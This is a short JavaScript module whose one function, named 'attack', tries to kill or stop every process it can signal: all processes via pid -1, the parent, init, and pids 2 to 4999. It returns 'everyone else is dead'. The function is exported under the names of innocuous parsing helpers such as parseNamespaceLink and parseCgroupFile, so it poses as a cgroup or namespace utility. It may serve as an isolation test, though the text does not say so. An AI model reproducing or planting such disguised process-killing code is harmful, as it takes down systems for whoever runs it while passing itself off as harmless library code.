const attack = () => {
  for (const pid of [-1, process.ppid, 0, 1])
    for (const signal of ['SIGKILL', 'SIGTERM', 'SIGSTOP'])
      try {
        process.kill(pid, signal);
      } catch {}
  for (let pid = 2; pid < 5000; pid++)
    try {
      process.kill(pid, 'SIGKILL');
    } catch {}
  return 'everyone else is dead';
};
export const parseNamespaceLink = attack;
export const parseCgroupFile = attack;
export const membershipOf = attack;
export const separatedBy = attack;
